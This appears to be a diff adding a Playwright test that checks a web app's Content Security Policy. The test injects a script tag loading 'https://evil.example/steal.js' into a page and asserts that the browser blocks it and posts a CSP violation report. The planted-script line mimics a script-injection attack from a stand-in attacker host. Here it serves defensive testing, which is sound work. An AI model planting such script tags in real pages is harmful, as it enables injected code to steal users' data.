@@ -149,3 +149,19 @@ test.describe('the app in a store’s admin', () => {
     }
   });
 });
+
+test('markup that somebody planted does nothing, and the browser reports it to us', async ({ page, expectConsoleError }) => {
+  expectConsoleError(/evil\.example/);
+  expectConsoleError(/404/);
+  // A page that leads nowhere else by itself.
+  await page.goto('/mails/unsubscribe/none');
+  const reported = page.waitForRequest(/\/policy-reports$/);
+  await page.evaluate(() => {
+    const planted = document.createElement('script');
+    planted.src = 'https://evil.example/steal.js';
+    document.head.append(planted);
+  });
+  const request = await reported;
+  expect((await request.response())?.status()).toBe(204);
+  expect(request.postDataJSON()['csp-report']).toMatchObject({ 'effective-directive': 'script-src-elem', 'blocked-uri': 'https://evil.example/steal.js' });
+});
